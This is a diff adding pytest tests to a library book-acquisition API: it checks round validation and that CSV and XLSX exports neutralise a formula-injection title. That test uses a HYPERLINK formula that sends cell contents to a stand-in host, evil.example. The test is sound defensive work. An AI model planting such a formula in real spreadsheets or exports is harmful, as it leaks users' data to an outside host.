@@ -155,3 +155,41 @@ def test_an_ineligible_line_cannot_be_approved(client, app, round_):
         headers=STAFF,
     )
     assert r.status_code == 409 and "PRICE_OVER_CAP" in r.json()["message"]
+
+
+@pytest.mark.parametrize("period", ["0000-01", "1999-12", "2101-01"])
+def test_a_round_for_an_impossible_month_is_422_naming_the_period(client, round_, period):
+    r = client.post("/v1/acquisition/rounds", json={"period": period}, headers=STAFF)
+    assert r.status_code == 422 and r.json()["fields"][0]["field"] == "body.period"
+
+
+def test_a_round_for_a_month_without_budget_lines_is_409(client, round_):
+    r = client.post("/v1/acquisition/rounds", json={"period": "2031-01"}, headers=STAFF)
+    assert r.status_code == 409 and "no budget line" in r.json()["message"]
+
+
+def test_exports_neutralise_a_formula_title(client, round_, small_city):
+    """Last in the module: its pending request is cancelled again so no later round ranks it."""
+    from openpyxl import load_workbook
+
+    from acquisition.export import FORMULA_TRIGGERS
+
+    reader = eligible_readers(small_city, 9, "Dehui")[8]
+    h = token("bookstore", "BS-11")
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    body = counter_body(reader, "BS-11", 12.5, channel="online", title=title)
+    d = client.post("/v1/purchase-requests", json=body, headers={**h, **key()}).json()
+    assert d["status"] == "pending", d
+    made = client.post("/v1/acquisition/rounds", json={}, headers=STAFF).json()
+    assert client.post(f"/v1/purchase-requests/{d['request_id']}/cancel", headers=h).status_code == 200
+    url = f"/v1/acquisition/rounds/{made['round_id']}/export"
+    text = client.get(url, params={"format": "csv"}, headers=STAFF).content.decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'" + title in cells
+    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
+    wb = load_workbook(io.BytesIO(client.get(url, params={"format": "xlsx"}, headers=STAFF).content))
+    xcells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in xcells if c.data_type == "f"]
+    assert not [c.value for c in xcells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
+    assert any(c.value == "'" + title for c in xcells)
+    assert any(isinstance(c.value, float) and c.value == 12.5 for c in xcells)  # the price stays a number
